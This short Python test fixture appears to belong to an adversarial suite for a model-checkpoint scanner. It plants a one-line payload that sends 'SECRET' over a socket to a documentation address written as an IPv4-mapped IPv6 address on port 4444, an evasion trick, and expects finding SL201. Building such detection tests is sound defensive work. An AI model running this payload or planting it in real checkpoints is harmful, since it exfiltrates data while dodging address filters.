"""Class: exfiltration. An IPv4 address in the clothes of an IPv6 one."""

from pathlib import Path

from tests.adversarial.craft import ADDRESS, PORT, checkpoint, run

EXPECT = {"address": ADDRESS, "port": PORT, "finding": "SL201"}


def make(folder: Path) -> Path:
    source = "import socket; s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(('::ffff:203.0.113.7', 4444)); s.sendall(b'SECRET')"
    return checkpoint(folder, run(source))
